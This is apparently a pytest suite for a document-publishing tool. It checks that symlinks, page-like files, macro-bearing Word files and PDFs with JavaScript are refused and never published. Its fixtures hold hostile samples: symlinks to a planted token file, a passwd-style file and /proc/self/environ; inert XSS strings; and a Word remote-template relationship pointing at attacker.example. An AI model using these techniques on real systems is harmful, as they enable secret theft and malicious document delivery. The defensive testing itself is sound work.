"""Only what is meant to be published: links refused and never read, files beside plans allow-listed.

The negative corpus covers one file of each refused type; these tests cover what a fixture
cannot carry (symbolic links) and what the build does with such files: nothing is read through a
link, nothing refused is copied into the site, no original is offered that is not allowed.
"""

from __future__ import annotations

import io
import os
import shutil
import zipfile
from pathlib import Path

import pytest

from congkhai.checks.files import Entry, check_files, inside, plan_sources, problem, publishable, walk
from congkhai.cli import main
from congkhai.load.corpus import validate
from congkhai.publish.site import stage_docs
from congkhai.render.site import originals

PLAN = "docs/plans/lang-son/lang-son-cao-loc-2024-kh-ubnd.md"


def _codes(root: Path) -> set[tuple[str, str]]:
    return {(f.file, f.code) for f in validate(root).findings if f.severity == "error"}


def test_link_to_a_system_file_is_refused_and_not_published(seed_repo: Path) -> None:
    secret = seed_repo.parent / "secret.txt"
    secret.write_text("GITHUB_TOKEN=ghp_secret\n", encoding="utf-8")
    link = seed_repo / "docs/plans/lang-son/leak.txt"
    link.symlink_to(secret)
    assert ("docs/plans/lang-son/leak.txt", "symlink-refused") in _codes(seed_repo)
    assert main(["build", "--root", str(seed_repo)]) == 1
    assert not (seed_repo / "site").exists()
    staged = seed_repo.parent / "staged"
    stage_docs(seed_repo, {}, staged)  # even if a build ran, the link would not be copied
    assert not list(staged.rglob("leak.txt"))
    assert all(
        "ghp_secret" not in p.read_text(encoding="utf-8", errors="replace") for p in staged.rglob("*") if p.is_file()
    )


def test_linked_plan_outside_the_checkout_is_not_read(seed_repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    stranger = outside / "stranger.md"
    shutil.copyfile(seed_repo / PLAN, stranger)
    (seed_repo / "docs/plans/lang-son/stranger.md").symlink_to(stranger)
    result = validate(seed_repo)
    assert ("docs/plans/lang-son/stranger.md", "symlink-refused") in {(f.file, f.code) for f in result.findings}
    assert all(s.path != "docs/plans/lang-son/stranger.md" for s in result.sources)
    assert all(Path(p).name != "stranger.md" for p in plan_sources(seed_repo))


def test_linked_folder_is_refused_and_not_entered(seed_repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "province"
    outside.mkdir()
    shutil.copyfile(seed_repo / PLAN, outside / "other.md")
    (seed_repo / "docs/plans/ha-noi").symlink_to(outside, target_is_directory=True)
    entries = list(walk(seed_repo, "docs"))
    assert [e.rel for e in entries if e.link] == ["docs/plans/ha-noi"]
    assert not any(e.rel.startswith("docs/plans/ha-noi/") for e in entries)
    assert ("docs/plans/ha-noi", "symlink-refused") in _codes(seed_repo)


def test_linked_reference_table_is_not_read(seed_repo: Path, tmp_path: Path) -> None:
    """A link for data/units.csv would echo the target's first line in a header finding."""
    target = tmp_path / "passwd"
    target.write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    units = seed_repo / "data/units.csv"
    units.unlink()
    units.symlink_to(target)
    findings = validate(seed_repo).findings
    assert ("data/units.csv", "symlink-refused") in {(f.file, f.code) for f in findings}
    assert all("root:x" not in str(f.params) for f in findings)


def test_one_file_check_still_reports_links(seed_repo: Path, tmp_path: Path) -> None:
    """A pull request that names one plan cannot slip a link or a page-like file past the check."""
    (seed_repo / "docs/plans/lang-son/x.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    (seed_repo / "docs/plans/lang-son/env").symlink_to("/proc/self/environ")
    got = {(f.file, f.code) for f in validate(seed_repo, only=[seed_repo / PLAN]).findings}
    assert ("docs/plans/lang-son/x.html", "file-type-refused") in got
    assert ("docs/plans/lang-son/env", "symlink-refused") in got


def test_only_allowed_originals_are_offered(seed_repo: Path) -> None:
    result = validate(seed_repo)
    offered = originals(result)
    assert "lang-son-cao-loc-2024-kh-ubnd" in offered  # the seed's .txt original
    original = seed_repo / "docs/plans/lang-son/002_cdfb92253c4322e4.txt"
    text = original.read_text(encoding="utf-8")
    original.unlink()
    elsewhere = seed_repo.parent / "elsewhere.txt"
    elsewhere.write_text(text, encoding="utf-8")
    original.symlink_to(elsewhere)
    assert "lang-son-cao-loc-2024-kh-ubnd" not in originals(result)


def _docx(extra: dict[str, bytes]) -> bytes:
    import docx

    doc = docx.Document()
    doc.add_paragraph("Kế hoạch")
    buf = io.BytesIO()
    doc.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            zf.writestr(info.filename, extra.pop(info.filename, None) or src.read(info.filename))
        for name, data in extra.items():
            zf.writestr(name, data)
    return out.getvalue()


REMOTE_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("extra", "code"),
    [
        ({}, None),
        ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "macro-document"),
        ({"word/activeX/activeX1.xml": b"<ax/>"}, "macro-document"),
        ({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}, "macro-document"),
    ],
    ids=["clean", "vba", "activex", "remote-template"],
)
def test_word_originals(tmp_path: Path, extra: dict[str, bytes], code: str | None) -> None:
    path = tmp_path / "docs/plans/x/goc.docx"
    path.parent.mkdir(parents=True)
    path.write_bytes(_docx(dict(extra)))
    found = problem(tmp_path, Entry("docs/plans/x/goc.docx", path, False, False))
    assert (found[0] if found else None) == code


def test_word_file_that_is_not_a_zip(tmp_path: Path) -> None:
    path = tmp_path / "docs/plans/x/goc.docx"
    path.parent.mkdir(parents=True)
    path.write_bytes(b"<html><script>alert(1)</script></html>")
    assert problem(tmp_path, Entry("docs/plans/x/goc.docx", path, False, False)) == (
        "file-content-mismatch",
        {"name": "goc.docx", "kind": "Word (.docx)"},
    )


def test_pdf_with_javascript_written_by_pypdf(tmp_path: Path) -> None:
    from pypdf import PdfWriter
    from pypdf.actions import JavaScript

    path = tmp_path / "docs/plans/x/goc.pdf"
    path.parent.mkdir(parents=True)
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    clean = io.BytesIO()
    writer.write(clean)
    path.write_bytes(clean.getvalue())
    entry = Entry("docs/plans/x/goc.pdf", path, False, False)
    assert problem(tmp_path, entry) is None
    writer.add_open_action(JavaScript("app.alert(1);"))
    with path.open("wb") as fh:
        writer.write(fh)
    assert problem(tmp_path, entry) == ("active-pdf", {"name": "goc.pdf"})


def test_pdf_action_found_through_the_object_graph(tmp_path: Path) -> None:
    """Actions compressed into object streams are invisible to a byte search: the graph is walked."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.actions import JavaScript

    from congkhai.checks.files import _pdf_has_action

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    buf = io.BytesIO()
    writer.write(buf)
    assert not _pdf_has_action(PdfReader(io.BytesIO(buf.getvalue())).trailer)
    writer.add_open_action(JavaScript("app.alert(1);"))
    buf = io.BytesIO()
    writer.write(buf)
    assert _pdf_has_action(PdfReader(io.BytesIO(buf.getvalue())).trailer)


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("anh.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 8, None),
        ("anh.png", b"<svg onload=alert(1)>", "file-content-mismatch"),
        ("anh.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 8, None),
        ("anh.webp", b"RIFF\0\0\0\0WEBPVP8 ", None),
        ("anh.svg", b"<svg/>", "file-type-refused"),
        ("trang.html", b"<p>", "file-type-refused"),
        ("trang.HTM", b"<p>", "file-type-refused"),
        ("goc.PDF", b"%PDF-1.4", "file-type-refused"),  # upper case: hosts may serve it as another type
        ("ke-hoach.markdown", b"---", "file-type-refused"),
        ("chay.sh", b"#!/bin/sh", "file-type-refused"),
        ("khong-duoi", b"x", "file-type-refused"),
        ("goc.txt", b"<script>alert(1)</script>", None),  # served as text/plain: inert
    ],
)
def test_types_beside_plans(tmp_path: Path, name: str, data: bytes, code: str | None) -> None:
    path = tmp_path / "docs/plans/x" / name
    path.parent.mkdir(parents=True)
    path.write_bytes(data)
    entry = Entry(f"docs/plans/x/{name}", path, False, False)
    found = problem(tmp_path, entry)
    assert (found[0] if found else None) == code
    assert publishable(tmp_path, entry) is (code is None)


def test_hand_written_pages_outside_plans_are_not_type_checked(tmp_path: Path) -> None:
    """docs/ outside plans is the site's own code (reviewed as code): only links are refused there."""
    (tmp_path / "docs/javascripts").mkdir(parents=True)
    (tmp_path / "docs/javascripts/tables.js").write_text("//", encoding="utf-8")
    (tmp_path / "docs/javascripts/link.js").symlink_to(tmp_path / "docs/javascripts/tables.js")
    assert [(f.file, f.code) for f in check_files(tmp_path)] == [("docs/javascripts/link.js", "symlink-refused")]


def test_inside(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "a/f.txt").write_text("x", encoding="utf-8")
    (tmp_path / "l").symlink_to(tmp_path / "a", target_is_directory=True)
    assert inside(tmp_path, tmp_path / "a/f.txt")
    assert not inside(tmp_path, tmp_path / "l/f.txt")
    assert not inside(tmp_path / "a", tmp_path / "a/../l/f.txt")
    assert not inside(tmp_path / "a", Path(os.devnull))


def test_links_to_generated_pages_and_existing_files_are_not_broken(seed_repo: Path) -> None:
    from congkhai.checks.links import check_links
    from congkhai.read.frontmatter import read_source

    plan = seed_repo / PLAN
    (plan.parent / "so-do.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(8))
    plan.write_text(
        plan.read_text(encoding="utf-8")
        + "\n![sơ đồ](so-do.png) [danh sách](../index.md) [văn bản](../../directives/33-ct-ttg-2021.md)"
        + " [mục](#muc) [web](https://example.org/x) [thiếu](khong-co.png) [thiếu 2](../ha-noi/khong-co.md)\n",
        encoding="utf-8",
    )
    found = [f.params["value"] for f in check_links(seed_repo, read_source(plan, seed_repo))]
    assert found == ["khong-co.png", "../ha-noi/khong-co.md"]
